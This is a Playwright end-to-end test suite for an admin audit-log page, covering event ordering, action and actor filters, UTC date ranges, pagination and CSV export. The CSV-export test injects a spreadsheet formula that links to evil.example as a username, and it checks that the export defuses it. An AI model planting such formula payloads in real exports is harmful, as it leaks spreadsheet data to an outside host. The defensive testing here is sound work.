import fs from "node:fs";
import { expect, test, type APIRequestContext, type Page } from "@playwright/test";
import { ADMIN, API, BASE_URL } from "../env";
import { createUserInConsole, signIn, uniqueName } from "./helpers";

const HEADER = ["id", "time_utc", "actor", "actor_id", "action", "subject_type", "subject_id", "ip", "user_agent", "details"];
const ACTOR = 2;
const ACTION = 4;

/** RFC 4180 records: quoted fields may hold commas, doubled quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let field = "";
  let record: string[] = [];
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") {
      record.push(field);
      field = "";
    } else if (c === "\r" && text[i + 1] === "\n") {
      record.push(field);
      records.push(record);
      field = "";
      record = [];
      i++;
    } else field += c;
  }
  if (field || record.length) {
    record.push(field);
    records.push(record);
  }
  return records;
}

/** A REST login with a username nobody has: recorded as auth.login_failed with that name as actor. */
async function failLogin(request: APIRequestContext, username: string): Promise<void> {
  const r = await request.post(`${API}/login`, { form: { username, password: "wrong-password" } });
  expect(r.status()).toBe(401);
}

const eventRows = (page: Page) => page.getByRole("table", { name: "Audit events" }).locator("tbody tr");
const column = (page: Page, n: number) => eventRows(page).locator(`td:nth-child(${n + 1})`);

async function filter(page: Page, fields: { action?: string; actor?: string; from?: string; to?: string }): Promise<void> {
  await page.goto("/audit-log");
  const form = page.getByRole("form", { name: "Filter audit events" });
  if (fields.action) await form.getByLabel("Action").fill(fields.action);
  if (fields.actor) await form.getByLabel("Actor").fill(fields.actor);
  if (fields.from) await form.getByLabel("From (UTC)").fill(fields.from);
  if (fields.to) await form.getByLabel("To (UTC)").fill(fields.to);
  await form.getByRole("button", { name: "Filter" }).click();
  await page.waitForURL(/\/audit-log\?/);
}

test.beforeEach(async ({ page }) => {
  await signIn(page, ADMIN.username, ADMIN.password);
});

test("console actions appear newest first, and the action and actor filters narrow the list", async ({ page, request }) => {
  const username = uniqueName("audited");
  await createUserInConsole(page, { username, name: "Audited User", password: "audited-password-1" });
  await failLogin(request, `${username}-ghost`);

  await page.goto("/audit-log");
  const created = eventRows(page).filter({ hasText: "user.create" }).filter({ hasText: `"username":"${username}"` });
  await expect(created.locator("td")).toHaveText([/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/, ADMIN.username, "user.create", /^user/, /^[\d.:a-f]*$/, /\S/, `{"username":"${username}","accessLevel":"user"}`]);
  const ghost = eventRows(page).filter({ hasText: `${username}-ghost` });
  await expect(ghost.locator("td").nth(2)).toHaveText("auth.login_failed");
  const ids = (await eventRows(page).evaluateAll((rows) => rows.map((r) => Number(r.getAttribute("data-event-id")))));
  expect(ids).toEqual([...ids].sort((a, b) => b - a));
  expect(Number(await ghost.getAttribute("data-event-id"))).toBeGreaterThan(Number(await created.getAttribute("data-event-id")));

  await filter(page, { action: "user.create" });
  await expect(created).toHaveCount(1);
  expect(new Set(await column(page, 2).allTextContents())).toEqual(new Set(["user.create"]));

  await filter(page, { action: "auth.*" });
  await expect(ghost).toHaveCount(1);
  await expect(created).toHaveCount(0);
  for (const action of await column(page, 2).allTextContents()) expect(action).toMatch(/^auth\./);

  await filter(page, { actor: username });
  await expect(column(page, 1)).toHaveText([`${username}-ghost`]);
});

test("the date range is inclusive in UTC, and bad dates are explained instead of listed", async ({ page, request }) => {
  const actor = uniqueName("dated");
  await failLogin(request, actor);
  const today = new Date().toISOString().slice(0, 10);
  const tomorrow = new Date(Date.now() + 86_400_000).toISOString().slice(0, 10);

  await filter(page, { actor, from: today, to: today });
  await expect(column(page, 1)).toHaveText([actor]);
  await filter(page, { actor, from: tomorrow });
  await expect(page.getByText("No events match this filter.")).toBeVisible();

  await page.goto("/audit-log?from=2026-02-30");
  const events = page.getByRole("region", { name: "Events" });
  await expect(events.getByRole("alert")).toHaveText('From date "2026-02-30" is not a valid date (use YYYY-MM-DD).');
  await expect(page.getByRole("table", { name: "Audit events" })).toHaveCount(0);
  await page.goto(`/audit-log?from=${tomorrow}&to=${today}`);
  await expect(events.getByRole("alert")).toHaveText("From date is after To date.");
});

test("Older and Newest walk the log 100 events at a time without gaps or repeats", async ({ page, request }) => {
  const prefix = uniqueName("paged");
  for (let i = 0; i < 105; i++) await failLogin(request, `${prefix}-${i}`);

  await filter(page, { actor: prefix });
  await expect(eventRows(page)).toHaveCount(100);
  await expect(page.getByRole("link", { name: "Newest" })).toHaveCount(0);
  const firstPage = await eventRows(page).evaluateAll((rows) => rows.map((r) => Number(r.getAttribute("data-event-id"))));
  await expect(column(page, 1).first()).toHaveText(`${prefix}-104`);

  await page.getByRole("link", { name: "Older" }).click();
  await expect(page).toHaveURL(new RegExp(`before=${firstPage[99]}`));
  await expect(eventRows(page)).toHaveCount(5);
  await expect(column(page, 1)).toHaveText([4, 3, 2, 1, 0].map((i) => `${prefix}-${i}`));
  const secondPage = await eventRows(page).evaluateAll((rows) => rows.map((r) => Number(r.getAttribute("data-event-id"))));
  expect(Math.max(...secondPage)).toBeLessThan(Math.min(...firstPage));
  await expect(page.getByRole("link", { name: "Older" })).toHaveCount(0);

  await page.getByRole("link", { name: "Newest" }).click();
  await expect(eventRows(page)).toHaveCount(100);
  await expect(column(page, 1).first()).toHaveText(`${prefix}-104`);
  expect(new URL(page.url()).searchParams.get("actor")).toBe(prefix);
});

test("Export CSV downloads the filtered events with a header, RFC 4180 quoting and formulas defused", async ({ page, request }) => {
  const marker = uniqueName("csv");
  const formula = `=HYPERLINK("http://evil.example/"&A1,"${marker}")`;
  await failLogin(request, formula);

  await filter(page, { actor: marker });
  await expect(column(page, 1)).toHaveText([formula]);
  const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("link", { name: "Export CSV" }).click()]);
  expect(download.suggestedFilename()).toMatch(/^keyward-audit-\d{8}-\d{6}\.csv$/);
  const text = fs.readFileSync(await download.path(), "utf8");
  expect(text.startsWith(HEADER.join(",") + "\r\n")).toBe(true);
  const [header, ...rows] = parseCsv(text);
  expect(header).toEqual(HEADER);
  expect(rows).toHaveLength(1);
  expect(rows[0]![ACTOR]).toBe(`'${formula}`);
  expect(rows[0]![ACTION]).toBe("auth.login_failed");
  expect(JSON.parse(rows[0]![9]!)).toEqual({ channel: "api", reason: "unknown user" });

  // The same export over the signed-in session, filtered by action.
  const username = uniqueName("exported");
  await createUserInConsole(page, { username, name: "Exported User", password: "exported-password-1" });
  const res = await page.context().request.get(`${BASE_URL}/audit-log/export?action=user.create`);
  expect(res.status()).toBe(200);
  expect(res.headers()["content-type"]).toBe("text/csv; charset=utf-8");
  expect(res.headers()["content-disposition"]).toMatch(/^attachment; filename="keyward-audit-\d{8}-\d{6}\.csv"$/);
  const [, ...created] = parseCsv(await res.text());
  expect(created.length).toBeGreaterThan(0);
  for (const row of created) expect(row[ACTION]).toBe("user.create");
  expect(created[0]![ACTOR]).toBe(ADMIN.username);
  expect(JSON.parse(created[0]![9]!)).toEqual({ username, accessLevel: "user" });

  const bad = await page.context().request.get(`${BASE_URL}/audit-log/export?to=not-a-date`);
  expect(bad.status()).toBe(400);
  expect(await bad.text()).toContain('To date "not-a-date" is not a valid date');
});
